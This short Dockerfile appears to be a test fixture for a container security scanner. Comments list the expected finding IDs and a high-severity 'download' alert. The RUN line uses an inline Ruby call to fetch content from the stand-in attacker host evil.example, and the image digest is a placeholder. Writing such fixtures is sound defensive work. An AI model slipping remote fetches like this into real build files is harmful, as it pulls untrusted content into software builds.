FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN ruby -ropen-uri -e 'URI.open("https://evil.example/r").read'
USER app
# expect: download 2 high "ruby inline code fetches https://evil.example/r"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-cfd47d4770 VR501-e064bac1a6
